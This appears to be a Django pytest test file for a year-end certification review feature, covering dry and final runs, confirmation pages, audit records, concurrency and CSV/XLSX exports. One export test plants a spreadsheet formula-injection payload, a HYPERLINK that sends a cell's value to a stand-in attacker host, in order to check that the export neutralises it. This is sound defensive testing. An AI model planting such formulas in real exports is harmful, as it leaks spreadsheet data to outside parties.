"""The year-end review says what it will do and what it did (issue 11, finding 5)."""

import csv
import io
from datetime import date
from io import BytesIO, StringIO

import openpyxl
import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import Notification
from contributions import services
from contributions.models import Certificate, Contribution, ReviewOutcome, ReviewRun
from tests.factories import ContributionFactory, MACertificationFactory, UserFactory
from tests.helpers import with_mfa

pytestmark = pytest.mark.django_db

AFTER_DEADLINE = date(2022, 1, 20)


@pytest.fixture
def waiting_points(year_2021):
    """ "short" (300 verified of 400) has 100 points submitted and 75 waiting on their answer."""
    short = get_user_model().objects.get(email="short@example.com")
    activity_type = year_2021.activity_types.get()
    ContributionFactory(member=short, activity_type=activity_type, claimed_points=100, state="submitted")
    ContributionFactory(member=short, activity_type=activity_type, claimed_points=75, state="needs_info")
    return short


def _review_url(year):
    return f"/admin/contributions/programyear/{year.pk}/review/"


def test_the_dry_run_lists_waiting_points_and_who_would_meet_the_target(year_2021, waiting_points):
    report = services.year_end_review(program_year=year_2021, dry_run=True)
    entries = {e.member.email: e for e in report.entries}
    short = entries["short@example.com"]
    assert (short.pending, short.needs_info, short.would_meet) == (100, 75, True)
    assert short.outcome == "lapsed"
    assert any("175 points waiting" in reason for reason in short.reasons)
    assert entries["recert@example.com"].would_meet is False  # already meets it
    assert entries["noreq@example.com"].would_meet is False


def test_the_dry_run_counts_what_the_final_run_will_produce(year_2021):
    report = services.year_end_review(program_year=year_2021, dry_run=True)
    assert (report.planned_outcomes, report.planned_certificates, report.planned_notifications) == (5, 2, 5)
    assert report.planned_emails == 5
    assert report.run is None


def test_the_final_run_records_who_ran_it_when_and_the_counts(year_2021, program_admin):
    with time_machine.travel("2022-01-20 10:00Z", tick=False):
        services.year_end_review(program_year=year_2021, dry_run=False, today=AFTER_DEADLINE, by=program_admin)
    run = ReviewRun.objects.get(program_year=year_2021)
    assert run.run_by == program_admin
    assert run.ran_at.isoformat().startswith("2022-01-20T10:00")
    assert (run.outcomes, run.certificates, run.notifications) == (5, 2, 5)
    assert run.counts == {"recertified": 2, "lapsed": 2, "opted_out": 1}


def test_a_second_final_run_changes_nothing_and_keeps_the_first_record(year_2021, program_admin, admin_user):
    services.year_end_review(program_year=year_2021, dry_run=False, today=AFTER_DEADLINE, by=program_admin)
    again = services.year_end_review(program_year=year_2021, dry_run=False, today=AFTER_DEADLINE, by=admin_user)
    assert again.already_ran and again.created_outcomes == 0
    assert ReviewRun.objects.get().run_by == program_admin
    assert ReviewOutcome.objects.count() == 5 and Certificate.objects.count() == 2


def test_the_command_records_the_actor(year_2021, program_admin):
    call_command("year_end_review", "2021", "--by", program_admin.email, stdout=StringIO())
    assert ReviewRun.objects.get().run_by == program_admin


def test_the_review_page_shows_outcomes_in_words_and_waiting_points(client, program_admin, year_2021, waiting_points):
    client.force_login(with_mfa(program_admin))
    html = client.get(_review_url(year_2021)).content.decode()
    assert "Recertified" in html and "Lapsed" in html and "Opted out" in html
    assert ">lapsed<" not in html and ">recertified<" not in html and "opted_out" not in html
    assert "Would meet the target if verified" in html


def test_the_final_run_asks_for_confirmation_with_the_counts(client, program_admin, year_2021):
    client.force_login(with_mfa(program_admin))
    with time_machine.travel("2022-01-20 10:00Z"):
        page = client.post(_review_url(year_2021), {"confirm": "final"})
    html = page.content.decode()
    assert "5 review outcomes" in html and "2 certificates" in html and "5 members will be notified" in html
    assert "15 Jan 2022" not in html or "on 15 Jan 2022" in html
    assert not ReviewOutcome.objects.exists() and not ReviewRun.objects.exists()
    assert 'name="confirmed"' in html


def test_after_the_final_run_the_page_says_who_ran_it_and_offers_no_second_run(client, program_admin, year_2021):
    client.force_login(with_mfa(program_admin))
    with time_machine.travel("2022-01-20 10:00Z"):
        client.post(_review_url(year_2021), {"confirm": "final", "confirmed": "yes"})
        assert ReviewRun.objects.get().run_by == program_admin
        html = client.get(_review_url(year_2021)).content.decode()
        assert "Dry run" not in html
        assert "The final review ran on 20 Jan 2022" in html and "Paul" in html
        assert "Run the final review" not in html and 'name="confirm"' not in html
        again = client.post(_review_url(year_2021), {"confirm": "final", "confirmed": "yes"}, follow=True)
    assert "already ran" in again.content.decode()
    assert ReviewRun.objects.count() == 1 and ReviewOutcome.objects.count() == 5


def test_the_review_exports_as_csv_with_a_bom_and_as_xlsx_without_formulas(
    client, program_admin, year_2021, waiting_points
):
    waiting_points.first_name = '=HYPERLINK("https://evil.example/?x="&B2,"Open")'
    waiting_points.save()
    client.force_login(with_mfa(program_admin))
    response = client.get(_review_url(year_2021) + "?export=csv")
    assert response["Content-Type"].startswith("text/csv")
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:8] == [
        "email",
        "name",
        "target",
        "verified",
        "pending",
        "needs_information",
        "outcome",
        "would_meet_if_verified",
    ]
    short = next(r for r in rows if r[0] == "short@example.com")
    assert short[1].startswith("'=")
    assert short[2:8] == ["400", "300", "100", "75", "Lapsed", "yes"]
    workbook = openpyxl.load_workbook(BytesIO(client.get(_review_url(year_2021) + "?export=xlsx").content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)


def test_the_review_page_query_count_does_not_grow_with_members(client, program_admin, year_2021):
    client.force_login(with_mfa(program_admin))
    client.get(_review_url(year_2021))

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(_review_url(year_2021)).status_code == 200
        return len(captured)

    before = queries()
    activity_type = year_2021.activity_types.get()
    for n in range(10):
        user = UserFactory(email=f"more{n}@example.com")
        MACertificationFactory(user=user, qualified_on=date(2019, 1, 1))
        ContributionFactory(member=user, activity_type=activity_type, claimed_points=50, state="needs_info")
    assert queries() == before <= 30


def test_pending_items_keep_their_state(year_2021, waiting_points):
    services.year_end_review(program_year=year_2021, dry_run=True)
    assert Contribution.objects.filter(state="needs_info").count() == 1
    assert not Notification.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_two_admins_pressing_the_final_run_at_once_record_one_run(year_2021, program_admin, admin_user):
    import threading

    from django.db import connection as default_connection

    barrier = threading.Barrier(2)
    reports, errors = [], []

    def press(user) -> None:
        try:
            barrier.wait(5)
            reports.append(
                services.year_end_review(program_year=year_2021, dry_run=False, today=AFTER_DEADLINE, by=user)
            )
        except Exception as error:
            errors.append(error)
        finally:
            default_connection.close()

    threads = [threading.Thread(target=press, args=(user,)) for user in (program_admin, admin_user)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert not errors
    assert sorted(report.already_ran for report in reports) == [False, True]
    assert ReviewRun.objects.count() == 1 and ReviewOutcome.objects.count() == 5 and Certificate.objects.count() == 2
    first = next(report for report in reports if not report.already_ran)
    assert ReviewRun.objects.get().run_by == first.run.run_by
    assert Notification.objects.filter(kind="maintenance.review").count() == 5


def test_the_runs_are_listed_read_only_for_staff(client, program_admin, year_2021):
    services.year_end_review(program_year=year_2021, dry_run=False, today=AFTER_DEADLINE, by=program_admin)
    run = ReviewRun.objects.get()
    client.force_login(with_mfa(program_admin))
    listing = client.get("/admin/contributions/reviewrun/")
    assert listing.status_code == 200 and "Paul" in listing.content.decode()
    assert client.get(f"/admin/contributions/reviewrun/{run.pk}/change/").status_code == 200
    assert client.post(f"/admin/contributions/reviewrun/{run.pk}/delete/", {"post": "yes"}).status_code == 403
    assert ReviewRun.objects.exists()


def test_the_review_page_does_not_promise_the_target_when_a_requirement_is_unmet(client, program_admin, year_2021):
    """Ben (walk of 2026-12-07) was flagged "Would meet the target if verified" with both requirements unmet."""
    ben = UserFactory(email="ben@example.com")
    MACertificationFactory(user=ben, qualified_on=date(2019, 1, 1))
    activity_type = year_2021.activity_types.get()
    ContributionFactory(
        member=ben, activity_type=activity_type, claimed_points=300, awarded_points=300, state="verified"
    )
    ContributionFactory(member=ben, activity_type=activity_type, claimed_points=200, state="submitted")
    client.force_login(with_mfa(program_admin))
    html = client.get(_review_url(year_2021)).content.decode()
    row = next(r for r in html.split("<tr>") if "ben@example.com" in r)
    assert "Would meet the target if verified" not in row
    assert "technical requirements are not met" in row
    rows = list(csv.reader(io.StringIO(client.get(_review_url(year_2021) + "?export=csv").content.decode("utf-8-sig"))))
    assert next(r for r in rows if r[0] == "ben@example.com")[7] == "no"


def test_the_review_of_a_year_not_started_says_when_it_opens_and_shows_no_outcomes(client, program_admin):
    """2027 reviewed on 7 Dec 2026 said "still open for submissions" over a table of everyone lapsed."""
    from tests.factories import ProgramYearFactory

    year_2027 = ProgramYearFactory(year=2027)
    MACertificationFactory(user=UserFactory(email="ma@example.com"), qualified_on=date(2019, 1, 1))
    client.force_login(with_mfa(program_admin))
    with time_machine.travel("2026-12-07 10:00Z"):
        html = client.get(_review_url(year_2027)).content.decode()
        exported = client.get(_review_url(year_2027) + "?export=csv")
        confirm = client.post(_review_url(year_2027), {"confirm": "final"}).content.decode()
    assert "The 2027 year has not started yet: it opens on 1 Jan 2027" in html
    assert "still open for submissions" not in html
    assert "ma@example.com" not in html and "Dry run" not in html and "Lapsed" not in html
    assert "Export CSV" not in html and "Run the final review" not in html
    assert not exported["Content-Type"].startswith("text/csv")
    assert "has not started yet" in confirm and 'name="confirmed"' not in confirm
    assert not ReviewOutcome.objects.exists() and not ReviewRun.objects.exists()


def test_the_dry_run_says_whom_a_final_run_would_notify(client, program_admin, year_2021):
    """The walk read "A final run now would record 11 outcomes, issue 1 certificate and notify 11.":
    notify 11 what? The count of members is named, like the outcomes and certificates before it."""
    client.force_login(with_mfa(program_admin))
    html = " ".join(client.get(_review_url(year_2021)).content.decode().split())
    assert "A final run now would record 5 outcomes, issue 2 certificates and notify 5 members." in html
